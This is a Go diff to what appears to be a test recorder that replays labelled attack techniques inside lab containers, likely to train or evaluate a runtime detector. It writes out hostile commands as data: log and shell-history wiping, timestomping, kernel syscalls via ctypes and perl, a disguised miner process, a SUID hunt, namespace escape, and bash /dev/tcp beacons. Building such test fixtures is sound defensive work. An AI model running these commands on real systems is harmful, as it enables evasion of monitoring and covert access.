@@ -87,6 +87,22 @@ while time.time()-t<3: pass'; rm -rf /var/tmp/.cache`},
 	{"defense-evasion", "api-debug", "truncate the access log, remove uploads", `: > $LAB/app/log/access.log; rm -f $LAB/app/uploads/*.bin 2>/dev/null; unset HISTFILE`},
 	{"defense-evasion", "web", "delete nginx logs, timestomp", `rm -f $LAB/nginx/log/access.log.*; touch -d '2020-01-01' $LAB/nginx/log/error.log; rm -f /root/.bash_history`},
 	{"defense-evasion", "cron", "wipe health logs and backups", `rm -rf $LAB/cron/log/*; find $LAB/cron/backups -type f -delete`},
+	{"defense-evasion", "redis", "clear redis log and shell history, kill logging", `: > $LAB/redis/redis.log; rm -f /root/.bash_history /root/.python_history; ln -sf /dev/null /tmp/.bash_history`},
+
+	// Kernel interfaces: module loading, bpf and userfaultfd, all rejected
+	// (a bogus module is not ELF; the bpf and userfaultfd calls are invalid
+	// or unprivileged).
+	{"kernel-interface", "web", "insmod of a bogus module", `printf 'not-a-module' > /tmp/.k.ko; insmod /tmp/.k.ko; rm -f /tmp/.k.ko`},
+	{"kernel-interface", "api-debug", "bpf and userfaultfd via ctypes", `python3 -c 'import ctypes;l=ctypes.CDLL(None);l.syscall(321,0,0,0);l.syscall(323,0)'`},
+	{"kernel-interface", "redis", "finit_module via perl syscall, ptrace of pid 1", `perl -e 'open(F,"<","/etc/hostname"); syscall(313, fileno(F), "", 0)'; python3 -c 'import ctypes;ctypes.CDLL(None).ptrace(16,1,0,0)'`},
+
+	{"miner", "api-debug", "python copied to /tmp/.X11-unix-m, pool 14444, background", `cp /usr/bin/python3.11 /tmp/.X11-unix-m && (/tmp/.X11-unix-m -c 'import socket,time
+s=socket.create_connection(("127.0.0.9",14444));s.recv(100);s.close()
+t=time.time()
+while time.time()-t<2: pass' &) ; sleep 3; rm -f /tmp/.X11-unix-m`},
+	{"privilege-escalation", "cron", "SUID hunt and capability probe as root", `find / -xdev -maxdepth 4 -perm -2000 -type f 2>/dev/null | head; cat /proc/self/status | grep Cap; python3 -c 'import os; os.setresgid(0,0,0); os.setgid(0)'`},
+	{"namespace-escape", "cron", "unshare -p -f --mount-proc, chroot", `unshare -p -f --mount-proc true; chroot $R /bin/true 2>/dev/null; true`},
+	{"interpreter-oneliner", "web", "perl -e and php-less one-liners through sh", `perl -e 'print "x"' >/dev/null; python3 -c 'import os; print(os.getuid())' >/dev/null; sh -c 'exec 3<>/dev/tcp/127.0.0.9/8081' 2>/dev/null; bash -c 'exec 3<>/dev/tcp/127.0.0.9/8081; echo -e "GET /beacon HTTP/1.0\r\n\r\n" >&3; cat <&3 >/dev/null'`},
 }
 
 // drift is a normal change in the test phase.
@@ -107,6 +123,10 @@ func (r *recorder) phases(ctx context.Context) error {
 	var wg sync.WaitGroup
 	wg.Go(func() { r.load(loadCtx) })
 	defer func() { stopLoad(); wg.Wait() }()
+
+	// Kubernetes exec probes: redis-cli ping in redis every 10 s, a python
+	// readiness check in the API every 15 s (each an exec, as kubelet runs it).
+	wg.Go(func() { r.probes(loadCtx) })
 
 	// Learning: normal traffic, with one reload and one log rotation.
 	learnEnd := time.Now().Add(r.cfg.Learn)
@@ -259,6 +279,25 @@ func (r *recorder) restartStorm(ctx context.Context) {
 		case <-ctx.Done():
 			return
 		case <-time.After(5 * time.Second):
+		}
+	}
+}
+
+// probes runs the containers' exec probes until ctx ends.
+func (r *recorder) probes(ctx context.Context) {
+	tick := time.NewTicker(5 * time.Second)
+	defer tick.Stop()
+	for n := 1; ; n++ {
+		select {
+		case <-ctx.Done():
+			return
+		case <-tick.C:
+		}
+		if n%2 == 0 {
+			r.execIn(ctx, "redis", "redis-cli -h 127.0.0.4 ping", 10*time.Second)
+		}
+		if n%3 == 0 {
+			r.execIn(ctx, "api", `python3 -c "import urllib.request;urllib.request.urlopen('http://127.0.0.3:8000/api/health',timeout=3)"`, 10*time.Second)
 		}
 	}
 }
